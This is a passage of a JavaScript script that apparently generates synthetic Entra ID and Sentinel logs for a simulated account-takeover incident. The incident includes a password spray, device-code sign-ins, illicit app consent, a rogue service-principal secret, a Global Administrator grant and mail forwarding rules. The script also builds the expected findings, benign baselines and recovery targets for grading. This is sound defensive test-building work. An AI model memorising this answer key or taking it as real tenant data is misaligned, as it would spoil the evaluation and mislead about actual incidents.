    attackerIps: [attacker.a1, attacker.a2, attacker.a3],
    attackerAsn: attacker.asn,
    attackerCountry: attacker.country,
    sprayIps: spray.map((x) => x.ip),
    sprayAsn,
    expectedFindings: [
      f("signin.locked", 1, "medium", "signins", "6 rows 50053 from the spray IPs"),
      f("signin.external-challenge-failed", 1, "medium", "signins", "3 rows 50158 from 45.137.20.14 before the start"),
      f("incident.start", 1, "high", "signins", "first successful high-risk sign-in"),
      f("signin.high-risk-success", 1, "high", "signins", "the incident start, logged twice with one Id"),
      f("signin.new-asn-success", 1, "high", "signins", "ASN 9009"),
      f("signin.new-country-success", 1, "high", "signins", "NL"),
      f("ca.legacy-auth", 1, "medium", "signins", "IMAP4 from 45.137.20.88"),
      f("ca.device-code", 2, "high", "signins", "one per IP: 45.137.20.201 and 45.137.20.88"),
      f("ca.compliant-mismatch", 1, "high", "signins", "isCompliant true, no deviceId, no trustType"),
      f("identity.risk-detection", 1, "info", "risk", "unfamiliarFeatures high (anonymizedIPAddress is medium)"),
      f("audit.security-info-registered", 2, "high", "audit", "Authenticator app (Pixel 7) and alternate mobile phone"),
      f("audit.consent-non-admin", 1, "high", "audit", "Mail Sync Pro, before alex held any role"),
      f("audit.app-updated", 1, "medium", "audit", "Finance Reporting: new client secret"),
      f("audit.sp-credentials-added", 1, "high", "audit", "Finance Reporting service principal"),
      f("audit.role-member-added", 1, "high", "audit", "Global Administrator, initiated by the Finance Reporting app"),
      f("audit.ca-policy-updated", 1, "high", "audit", "alex excluded from Require MFA for all users"),
      f("audit.user-updated", 2, "medium", "audit", "the attacker's (medium) and a routine sync before the start (info)"),
      f("office.forwarding-rule", 2, "high", "office", "New-InboxRule \".\" and Set-Mailbox ForwardingSmtpAddress"),
      f("defender.alert", 2, "high", "alerts", "Execution (High) and Persistence, CredentialAccess (Medium) on vm-web-01; the Discovery alert is filtered out"),
    ],
    attackerMethodIds: [methodIds.alternateMobile, methodIds.attackerAuthenticator],
    ownMethodIds: [methodIds.password, methodIds.mobile, methodIds.alexAuthenticator],
    defaultMethodId: methodIds.alexAuthenticator,
    // Nothing above low for these (morgan's device-code use is benign but rightly a medium to review, so not listed).
    benignUsers: [sam.upn, users.taylor.upn, users.priya.upn, users.itAdmin.upn],
    benignMaxSeverity: Object.fromEntries([sam.upn, users.taylor.upn, users.priya.upn, users.itAdmin.upn].map((upn) => [upn, "low"])),
    benignFindings: {
      [sam.upn]: [f("signin.new-asn-success", 1, "low", "signins", "ASN 3320, Frankfurt hotel"), f("signin.new-country-success", 1, "low", "signins", "DE")],
    },
    vmResourceIds: [vm],
    unrelatedAlertIds: ["4e6a8c0d-2f4b-4d6f-8b0c-0e2c4a6e8f42"],
    deviceCodeHunt: [
      { upn: alex.upn, signIns: 2, distinctIps: 2 },
      { upn: morgan.upn, signIns: 2, distinctIps: 1 },
    ],
    recovery: {
      appsToRotate: [{ appObjectId: financeReporting.appObjectId, displayName: "Finance Reporting", attackerKeyIds: [financeReporting.newSecretKeyId], servicePrincipalKeyIds: [financeReporting.newSpSecretKeyId] }],
      consentedApps: [{ servicePrincipalId: mailSyncPro.spId, displayName: "Mail Sync Pro", grantId: mailSyncPro.grantId }],
      caPoliciesChangedInWindow: [policies.requireMfa],
      namedLocationsCreatedInWindow: [namedLocationIds.branchNl],
      roleAssignmentsNewInWindow: [{ principalId: alex.id, role: "Global Administrator", roleDefinitionId: roleIds.globalAdmin }],
    },
  };
}

const incidentSignInId = "d1c4a7e0-3b6f-4c9a-8d2e-5f1a4b7c0e93";
const samLowRiskSignInId = "a8e1b4d7-0c3f-4a6e-9b2d-5e8f1a4c7b06";

// ---------------------------------------------------------------------------------------------------------------

const tenantJson = tenant();
writeJson("tenant", tenantJson);
const incident = signIns();
auditLogs();
officeActivity();
securityAlerts();
riskEvents(incident);
tenantJson.riskDetections = riskDetections;
writeJson("tenant", tenantJson);
writeJson("expected", expected());
const byTime = (a, b) => (a.CreatedDateTime ?? a.TimeGenerated).localeCompare(b.CreatedDateTime ?? b.TimeGenerated);
console.log(`wrote ${outDir}: tenant.json`);
console.log("SigninLogs", writeTable("SigninLogs", interactiveRows));
console.log("AADNonInteractiveUserSignInLogs", writeTable("AADNonInteractiveUserSignInLogs", nonInteractiveRows));
console.log("AuditLogs", writeTable("AuditLogs", auditRows));
console.log("OfficeActivity", writeTable("OfficeActivity", officeRows));
console.log("SecurityAlert", writeTable("SecurityAlert", alertRows));
console.log("AADUserRiskEvents", writeTable("AADUserRiskEvents", riskRows));
console.log("IdentityInfo", writeTable("IdentityInfo", identityInfo()));
